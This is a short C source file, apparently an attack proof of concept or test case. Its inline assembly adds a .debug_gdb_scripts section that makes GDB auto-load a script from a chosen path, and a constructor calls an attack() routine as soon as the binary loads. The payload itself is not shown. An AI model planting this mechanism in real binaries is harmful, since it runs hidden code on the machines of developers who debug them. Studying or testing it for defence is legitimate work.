#include "attack.h"
__asm__(".section .debug_gdb_scripts,\"MS\",@progbits,1\n.byte 1\n.string \"" PLACE "/kept\"\n.section .debug_own,\"a\",@progbits\n.string \"x\"\n.text");
__attribute__((constructor)) static void early(void) { attack(); }
#include "body.h"
